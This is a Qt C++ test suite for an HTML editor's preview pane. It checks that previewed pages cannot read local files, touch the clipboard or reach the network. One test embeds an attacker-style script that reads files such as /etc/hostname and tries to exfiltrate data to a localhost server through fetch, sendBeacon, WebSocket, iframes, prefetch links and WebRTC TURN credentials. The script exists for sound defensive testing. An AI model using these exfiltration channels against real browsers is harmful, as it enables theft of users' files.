#include "folderrequestinterceptor.h"
#include "previewcontroller.h"
#include "previewpane.h"
#include "usersettings.h"
#include "webenginesandbox.h"
#include "windowfixture.h"

#include <QClipboard>
#include <QTcpServer>
#include <QToolButton>
#include <QUdpSocket>
#include <QWebEngineScript>
#include <QWebEngineSettings>
#include <QWebEngineView>

using namespace zendral;
using namespace zendral::test;
using namespace Qt::StringLiterals;

namespace {

const QString LiveSetting = QStringLiteral("ver/previsualizarVivo");

// A page titled title whose body is body.
QString pageOf(const QString &title, const QString &body)
{
    return u"<html><head><title>"_s + title + u"</title></head><body>"_s + body +
           u"</body></html>"_s;
}

// A shown main window with its document tabs, the preview showing the saved file or, live,
// the text as it stands.
struct Fixture : WindowFixture
{
    QTabWidget *tabs = window.findChild<QTabWidget *>(QStringLiteral("SSTab1"));
    bool live = false;

    explicit Fixture(bool showsText = false) : live(showsText)
    {
        window.command(u"mn_previsualizarvivo"_s)->setChecked(live);
        showAndWait();
    }
    // Every test starts from the option as it comes.
    ~Fixture() { userSettings()->remove(LiveSetting); }
    void clickTab(int index)
    {
        QTest::mouseClick(tabs->tabBar(), Qt::LeftButton, {},
                          tabs->tabBar()->tabRect(index).center());
        QCOMPARE(tabs->currentIndex(), index);
    }
    QWebEngineView *browser() { return window.findChild<QWebEngineView *>(u"browser"_s); }
    QString note() { return child<QLabel>(&window, u"previewNote"_s)->text(); }
    QString shown() { return child<QLabel>(&window, u"lblprevpagina"_s)->text(); }
    // Saves a page titled "esperando" that runs script as path; its preview shows it at once.
    void preview(const QString &path, const QString &script)
    {
        show(path, pageOf(u"esperando"_s, u"<script>"_s + script + u"</script>"_s));
    }
    void show(const QString &path, const QString &text)
    {
        page().setText(text);
        trigger(QStringLiteral("mn_guardar"), path);
        clickTab(1);
        QVERIFY(prompts.notices.isEmpty());
        // The text is handed over, and given its address, once the browser has taken it.
        QTRY_COMPARE(browser()->url(), QUrl::fromLocalFile(path));
    }
    void waitLoaded() { QTRY_VERIFY(!browser()->page()->isLoading()); }
    // Where the page is scrolled to, as its own script reads it.
    int scrollY()
    {
        QVariant y;
        browser()->page()->runJavaScript(u"window.scrollY"_s, QWebEngineScript::ApplicationWorld,
                                         [&y](const QVariant &answer) { y = answer; });
        if (!QTest::qWaitFor([&y] { return y.isValid(); }))
            return -1;
        return y.toInt();
    }
    // Shows the page again: the saved file once more, or the text after a space typed at its end.
    void showAgain()
    {
        clickTab(0);
        if (live) {
            view.moveCursor(QTextCursor::End);
            QTest::keyClick(&view, Qt::Key_Space);
        }
        clickTab(1);
    }
    QString title() { return browser()->title(); }
};

} // namespace

class TestPreview : public QObject
{
    Q_OBJECT

public:
    static void initMain()
    {
        relaxWebEngineSandboxForRoot();
        QCoreApplication::setAttribute(Qt::AA_ShareOpenGLContexts);
    }

private slots:
    // Only a page saved as it is shows; else the user is told, and the tab stays, empty.
    void saveFirst_data()
    {
        QTest::addColumn<bool>("saved");
        QTest::newRow("right after start-up") << false;
        QTest::newRow("an edit after Save") << true;
    }

    void saveFirst()
    {
        QFETCH(bool, saved);
        QTemporaryDir dir;
        Fixture f;
        if (saved) {
            // The preview tab is visited and left once with the file saved.
            f.preview(dir.filePath(QStringLiteral("uno.html")), QString());
            f.clickTab(0);
            f.view.setFocus();
            QTest::keyClick(&f.view, Qt::Key_X);
        }
        f.clickTab(1);
        QCOMPARE(f.prompts.notices, QStringList(PreviewController::saveFirstToPreview()));
        if (f.browser())
            QTRY_COMPARE(f.browser()->url(), QUrl(QStringLiteral("about:blank")));
    }

    // With the option on, the text is shown as it stands, saved or not, and the reader stays
    // where they were in the page; the option is kept for the next window.
    void followsTheText()
    {
        QTemporaryDir dir;
        const QString path = dir.filePath(u"vivo.html"_s);
        const QString lines = u"<p>línea</p>"_s.repeated(400);
        {
            Fixture f(true);
            f.page().setText(pageOf(u"sin guardar"_s, lines));
            f.clickTab(1);
            QVERIFY(f.prompts.notices.isEmpty());
            QTRY_COMPARE(f.title(), u"sin guardar"_s);
            QCOMPARE(f.note(), PreviewPane::noFolderNote());
            QCOMPARE(f.shown(), u"Sin título (tal como está en el editor)"_s);

            // Saved, the page has a folder and is shown under its name.
            f.trigger(u"mn_guardar"_s, path);
            const QByteArray saved = fileBytes(path);
            f.clickTab(0);
            f.clickTab(1);
            QTRY_COMPARE(f.shown(), path + u" (tal como está en el editor)"_s);
            f.waitLoaded();
            f.browser()->page()->runJavaScript(u"window.scrollTo(0, 900);"_s);
            QTRY_COMPARE(f.scrollY(), 900);
            f.clickTab(0);
            f.view.moveCursor(QTextCursor::Start);
            QTest::keyClick(&f.view, Qt::Key_Space);
            f.page().setText(pageOf(u"cambiada"_s, lines));
            f.clickTab(1);
            QTRY_COMPARE(f.title(), u"cambiada"_s);
            QTRY_COMPARE(f.scrollY(), 900);
            QVERIFY(f.note().isEmpty());
            QCOMPARE(f.shown(), path + u" (tal como está en el editor)"_s);
            // A change made with the preview in front follows once the changes pause.
            f.page().setText(pageOf(u"desde la barra"_s, lines));
            QTRY_COMPARE(f.title(), u"desde la barra"_s);
            QVERIFY(f.prompts.notices.isEmpty());
            // The file on disk was never the one shown.
            QCOMPARE(fileBytes(path), saved);
        }
        {
            WindowFixture f;
            f.window.command(u"mn_previsualizarvivo"_s)->setChecked(true);
        }
        WindowFixture again;
        QVERIFY(again.window.command(u"mn_previsualizarvivo"_s)->isChecked());
        userSettings()->remove(LiveSetting);
    }

    // A page never saved has no folder: it loads what it holds and nothing from the disk.
    void unsavedPageReadsNothing()
    {
        Fixture f(true);
        f.page().setText(pageOf(u"esperando"_s, uR"(<script>
var r = [];
function tell(what) { r.push(what); if (r.length == 2) document.title = r.sort().join(); }
fetch('file:///etc/hostname').then(() => tell('disco:leido'), () => tell('disco:rechazado'));
fetch('data:text/plain,propio').then(x => x.text()).then(t => tell('data:' + t));
</script>)"_s));
        f.clickTab(1);
        QTRY_COMPARE(f.title(), u"data:propio,disco:rechazado"_s);
    }

    // A text too long to be handed over without a file: the saved file when it is the same
    // text, else nothing, and the note says which.
    void tooBigForTheText_data()
    {
        QTest::addColumn<bool>("saved");
        QTest::newRow("never saved") << false;
        QTest::newRow("saved as it is") << true;
    }

    void tooBigForTheText()
    {
        QFETCH(bool, saved);
        QTemporaryDir dir;
        const QString path = dir.filePath(u"grande.html"_s);
        Fixture f(true);
        // Each "<" travels as three characters.
        f.page().setText(pageOf(u"grande"_s, QString(800 * 1024, u'<')));
        if (saved)
            f.trigger(u"mn_guardar"_s, path);
        f.clickTab(1);
        QCOMPARE(f.note(), PreviewPane::tooLargeNote(saved));
        if (saved)
            QTRY_COMPARE(f.title(), u"grande"_s);
        else
            QVERIFY(!f.browser() || f.browser()->url() != QUrl::fromLocalFile(path));
        QVERIFY(f.prompts.notices.isEmpty());
    }

    // An attacker's page reads what it can, in its folder and out of it, and tries every way out
    // to servers on this machine, which must see no connection at all. The browser's own guard
    // on remote addresses is off: it let WebSocket through, and the seal must not depend on it.
    void nothingLeavesTheMachine_data()
    {
        QTest::addColumn<bool>("live");
        QTest::newRow("the saved file") << false;
        QTest::newRow("the text as it stands") << true;
    }

    void nothingLeavesTheMachine()
    {
        QFETCH(bool, live);
        QTcpServer web;
        QVERIFY(web.listen(QHostAddress::LocalHost));
        QUdpSocket datagrams;
        QVERIFY(datagrams.bind(QHostAddress::LocalHost));
        // The reads come back in the title; once all settled, the page leaves itself, the last way
        // out. window.open used to hand back a window kept out of sight, still running the page;
        // it now shows a page of the folder in the preview itself, and refuses this one.
        const QString attack = QStringLiteral(R"(
var H = 'http://127.0.0.1:%1/', s = '', left = 10, results = [];
function settled() {
  if (--left == 0) document.title = results.sort().join(), location.href = H + 'location?d=' + s; }
function tell(way, what) { results.push(way + ':' + what); settled(); }
function read(way, address) {
  var x = new XMLHttpRequest();
  x.onload = () => tell(way, x.responseText); x.onerror = () => tell(way, 'rechazado');
  try { x.open('GET', address); x.send(); } catch (e) { tell(way, 'rechazado'); } }
function add(into, tag, fields) {
  return into.appendChild(Object.assign(document.createElement(tag), fields)); }
read('above', '../secreto.txt'); read('absolute', 'file:///etc/hostname'); read('link', 'enlace.txt');
// The browser may hand back a window before the editor has refused it: it closes at once.
var o = window.open('../secreto.txt');
(function look() {
  if (!o || o.closed) return tell('window', 'rechazado');
  try { var t = o.document.body && o.document.body.innerText.trim(); if (t) return tell('window', t); }
  catch (e) { return tell('window', 'rechazado'); }
  setTimeout(look, 50); })();
fetch('dentro.txt').then(r => r.text()).then(t => {
  tell('beside', t); s = encodeURIComponent(t);
  fetch(H + 'fetch', {method: 'POST', body: t}).finally(settled);
  add(document.body, 'iframe', {onload: settled, src: H + 'iframe?d=' + s});
  navigator.sendBeacon(H + 'beacon', t);
  var w = new WebSocket(H.replace('http', 'ws') + 'websocket?d=' + s); w.onopen = w.onerror = settled;
  add(document.head, 'link', {rel: 'prefetch', href: H + 'prefetch', onload: settled, onerror: settled});
  ['preconnect', 'dns-prefetch', 'icon'].forEach(rel => add(document.head, 'link', {rel, href: H + rel}));
  // Peer connections reach their servers without any request the browser could refuse.
  // A frame of its own is a fresh window, with every constructor in it.
  var Peer = add(document.body, 'iframe', {}).contentWindow.RTCPeerConnection || RTCPeerConnection;
  if (!Peer) { settled(); } else {
    var pc = new Peer({iceServers: [{urls: 'stun:127.0.0.1:%2'},
        {urls: 'turn:127.0.0.1:%1?transport=tcp', username: 'u', credential: s}]});
    pc.createDataChannel('d');
    pc.onicegatheringstatechange = () => { if (pc.iceGatheringState == 'complete') settled(); };
    pc.createOffer().then(o => pc.setLocalDescription(o));
  }
});
)")
                                   .arg(web.serverPort())
                                   .arg(datagrams.localPort());

        QTemporaryDir dir;
        writeBytes(dir.filePath(QStringLiteral("secreto.txt")), "SECRETO");
        writeBytes(dir.filePath(QStringLiteral("sitio/dentro.txt")), "DENTRO");
        QVERIFY(QFile::link(dir.filePath(QStringLiteral("secreto.txt")),
                            dir.filePath(QStringLiteral("sitio/enlace.txt"))));
        Fixture f(live);
        // The browser is made on the first visit to the tab; the second one loads the page again.
        f.preview(dir.filePath(QStringLiteral("sitio/ataque.html")), attack);
        f.browser()->settings()->setAttribute(QWebEngineSettings::LocalContentCanAccessRemoteUrls,
                                              true);
        QSignalSpy refused(child<FolderRequestInterceptor>(&f.window, QString()),
                           &FolderRequestInterceptor::refused);
        QSignalSpy loads(f.browser(), &QWebEngineView::loadFinished);
        QSignalSpy titles(f.browser(), &QWebEngineView::titleChanged);
        f.showAgain();
        // Once the page has gone, every request it made has been answered or dropped.
        QTRY_VERIFY_WITH_TIMEOUT(!loads.isEmpty() && !loads.last().first().toBool(), 60000);
        QCoreApplication::processEvents();
        QCOMPARE(web.hasPendingConnections() + datagrams.hasPendingDatagrams(), 0);
        QVERIFY(titles.contains(QVariantList{QStringLiteral(
            "above:rechazado,absolute:rechazado,beside:DENTRO,link:rechazado,window:rechazado")}));
        // Every way out was tried, and the seal refused each one itself.
        QSet<QString> tried;
        for (const QList<QVariant> &address : refused)
            tried.insert(address.first().toUrl().path().mid(1));
        QVERIFY(tried.contains({"fetch", "iframe", "location", "beacon", "websocket", "prefetch"}));
        // Leaving for a server was refused aloud.
        QVERIFY2(f.note().startsWith(u"No se abre \"http://127.0.0.1"_s), qPrintable(f.note()));
    }

    void wideFolderRunsNoScript_data()
    {
        QTest::addColumn<QString>("folder");
        QTest::addColumn<bool>("scripts");
        QTest::addColumn<bool>("live");
        // The text as it stands is judged by its saved file's folder, as the file is.
        QTest::newRow("the home folder itself") << u"casa"_s << false << false;
        QTest::newRow("the home folder itself, as it stands") << u"casa"_s << false << true;
        QTest::newRow("a folder inside the home folder") << u"casa/web"_s << true << false;
        QTest::newRow("a folder inside the home folder, as it stands")
            << u"casa/web"_s << true << true;
        QTest::newRow("the root folder") << u"/"_s << false << false;
        // A page in /home read every user's home folder through file:.
        QTest::newRow("a folder that holds the home folder") << QString() << false << false;
        QTest::newRow("the temporary folder itself") << QDir::tempPath() << false << false;
    }

    void wideFolderRunsNoScript()
    {
        QFETCH(QString, folder);
        QFETCH(bool, scripts);
        QFETCH(bool, live);
        QTemporaryDir dir;
        const QByteArray home = qgetenv("HOME");
        qputenv("HOME", QFile::encodeName(dir.filePath(QStringLiteral("casa"))));
        const QString inFolder = QDir(dir.path()).filePath(folder);
        if (!QFileInfo(inFolder).isWritable() && !QDir().mkpath(inFolder))
            QSKIP("the folder cannot be written to");
        QTemporaryFile page(QDir(inFolder).filePath(QStringLiteral("zendral-XXXXXX.html")));
        QVERIFY(page.open());
        Fixture f(live);
        f.preview(page.fileName(), QStringLiteral("document.title = 'corrio';"));
        f.waitLoaded();
        qputenv("HOME", home);
        QTRY_COMPARE(f.browser()->title(), QString::fromLatin1(scripts ? "corrio" : "esperando"));
        auto *note = child<QLabel>(&f.window, QStringLiteral("previewNote"));
        QCOMPARE(note->isVisible(), !scripts);
        if (!scripts) {
            QCOMPARE(note->text(),
                     PreviewPane::withoutScriptsNote(QFileInfo(page.fileName()).absolutePath()));
            QCOMPARE(note->textFormat(), Qt::PlainText);
        }
    }

    // A page's alert(), confirm() and prompt() open no box: a page calling alert() every 10 ms
    // held every window of the program. (The saved file and the text as it stands are one page
    // of the browser's, with the same settings.)
    void dialogsNeverHoldTheEditor()
    {
        // A box that opens all the same is closed, so that the test ends and says so.
        int boxes = 0;
        QTimer closer;
        closer.callOnTimeout([&boxes] {
            if (QWidget *box = QApplication::activeModalWidget()) {
                ++boxes;
                box->close();
            }
        });
        closer.start(50);
        QTemporaryDir dir;
        Fixture f;
        f.preview(dir.filePath(u"cajas.html"_s), uR"(
var n = 0, answers = 'confirm:' + confirm('¿Seguro?') + ',prompt:' + prompt('Nombre', 'Ana');
setInterval(() => { alert('vuelta ' + ++n); if (n == 30) document.title = answers; }, 10);
)"_s);
        QTRY_COMPARE_WITH_TIMEOUT(f.title(), u"confirm:false,prompt:null"_s, 20000);
        QCOMPARE(boxes, 0);
        QVERIFY2(f.note().startsWith(PreviewPane::alertNote(u"vuelta"_s).chopped(1)),
                 qPrintable(f.note()));
    }

    // The user's clipboard is not the page's: a page reads nothing from it and puts nothing in.
    void clipboardIsNotThePages()
    {
        QGuiApplication::clipboard()->setText(u"del usuario"_s);
        QTemporaryDir dir;
        Fixture f;
        f.preview(dir.filePath(u"portapapeles.html"_s), uR"(
var r = [];
function tell(what) { r.push(what); if (r.length == 4) document.title = r.sort().join(); }
var gone = false;
function go() {
  if (gone) return; gone = true;
  var area = document.body.appendChild(document.createElement('textarea'));
  area.focus();
  tell('pegar:' + document.execCommand('paste') + ':' + area.value);
  area.value = 'de la página'; area.select();
  tell('copiar:' + document.execCommand('copy'));
  navigator.clipboard.readText().then(t => tell('leer:' + t), () => tell('leer:rechazado'));
  navigator.clipboard.writeText('de la página').then(() => tell('escribir:hecho'),
                                                    () => tell('escribir:rechazado'));
}
window.onfocus = go; if (document.hasFocus()) go();
)"_s);
        f.window.activateWindow();
        QVERIFY(QTest::qWaitForWindowActive(&f.window));
        f.browser()->setFocus();
        QTRY_VERIFY_WITH_TIMEOUT(f.title().startsWith(u"copiar"_s), 20000);
        QCOMPARE(f.title(), u"copiar:false,escribir:rechazado,leer:rechazado,pegar:false:"_s);
        QCOMPARE(QGuiApplication::clipboard()->text(), u"del usuario"_s);
    }

    // With the preview in front, Edición's keys are the page's: Ctrl+V pasted into the hidden
    // source and Ctrl+S saved it; Ctrl+C copies what is selected in the page.
    void keysMeantForThePage()
    {
        QTemporaryDir dir;
        const QString path = dir.filePath(u"teclas.html"_s);
        Fixture f;
        const QString source = pageOf(u"teclas"_s, u"uno dos"_s);
        f.show(path, source);
        QTRY_COMPARE(f.title(), u"teclas"_s);
        const QByteArray saved = fileBytes(path);
        f.clickTab(0);
        f.trigger(u"mn_seleccionartodo"_s);
        f.clickTab(1);
        QGuiApplication::clipboard()->setText(u"PEGADO"_s);
        f.window.activateWindow();
        QVERIFY(QTest::qWaitForWindowActive(&f.window));
        f.browser()->setFocus();
        QWidget *keys = QApplication::focusWidget();
        QVERIFY(keys);
        QTest::keyClick(keys, Qt::Key_V, Qt::ControlModifier);
        QTest::keyClick(keys, Qt::Key_S, Qt::ControlModifier);
        QCOMPARE(f.page().text(), source);
        QCOMPARE(fileBytes(path), saved);
        for (const char *name : {"mn_pegar", "mn_cortar", "mn_reemplazar", "mn_seleccionartodo",
                                 "mn_buscarreemplazar"})
            QVERIFY2(!f.window.command(QLatin1String(name))->isEnabled(), name);

        f.browser()->page()->triggerAction(QWebEnginePage::SelectAll);
        QTRY_VERIFY(f.window.command(u"mn_copiar"_s)->isEnabled());
        QTest::keyClick(keys, Qt::Key_C, Qt::ControlModifier);
        QTRY_COMPARE(QGuiApplication::clipboard()->text(), u"uno dos"_s);
        f.clickTab(0);
        QVERIFY(f.window.command(u"mn_pegar"_s)->isEnabled());
        QVERIFY(f.window.command(u"mn_seleccionartodo"_s)->isEnabled());
    }

    // A link with a target or window.open shows a page of the folder in the preview itself,
    // with "Atrás" back to where it came from; one outside the folder is refused aloud.
    void linksAndWindows_data()
    {
        QTest::addColumn<QString>("script");
        QTest::addColumn<QString>("target");
        QTest::addColumn<bool>("live");
        const QString link =
            u"var a = document.createElement('a'); a.href = '%1'; a.target = '%2'; a.click();"_s;
        QTest::newRow("_blank inside the folder")
            << link.arg(u"otra.html"_s, u"_blank"_s) << u"sitio/otra.html"_s << false;
        QTest::newRow("window.open inside the folder")
            << u"window.open('otra.html');"_s << u"sitio/otra.html"_s << false;
        QTest::newRow("_blank outside the folder")
            << link.arg(u"../fuera.html"_s, u"_blank"_s) << u"fuera.html"_s << false;
        // The text as it stands has the saved file's address: the same folder rule holds.
        QTest::newRow("_blank inside the folder, as it stands")
            << link.arg(u"otra.html"_s, u"_blank"_s) << u"sitio/otra.html"_s << true;
    }

    void linksAndWindows()
    {
        QFETCH(QString, script);
        QFETCH(QString, target);
        QFETCH(bool, live);
        QTemporaryDir dir;
        writeBytes(dir.filePath(u"sitio/otra.html"_s), pageOf(u"otra"_s, {}).toUtf8());
        writeBytes(dir.filePath(u"fuera.html"_s), pageOf(u"fuera"_s, {}).toUtf8());
        const QString path = dir.filePath(u"sitio/inicio.html"_s);
        Fixture f(live);
        f.show(path, pageOf(u"inicio"_s, {}));
        QTRY_COMPARE(f.title(), u"inicio"_s);
        auto *back = child<QToolButton>(&f.window, u"btnprevatras"_s);
        QVERIFY(!back->isEnabled());
        f.browser()->page()->runJavaScript(script);
        const QString targetPath = dir.filePath(target);
        if (target.startsWith(u"fuera")) {
            QTRY_COMPARE(f.note(), PreviewPane::refusedNote(QUrl::fromLocalFile(targetPath)));
            QCOMPARE(f.title(), u"inicio"_s);
            QVERIFY(!back->isEnabled());
            return;
        }
        QTRY_COMPARE(f.title(), u"otra"_s);
        QCOMPARE(f.shown(), targetPath);
        QTRY_VERIFY(back->isEnabled());
        QTest::mouseClick(back, Qt::LeftButton);
        QTRY_COMPARE(f.title(), u"inicio"_s);
        QTRY_VERIFY(child<QToolButton>(&f.window, u"btnprevadelante"_s)->isEnabled());
        QTRY_COMPARE(f.browser()->url(), QUrl::fromLocalFile(path));
    }
};

QTEST_MAIN(TestPreview)
#include "tst_preview.moc"
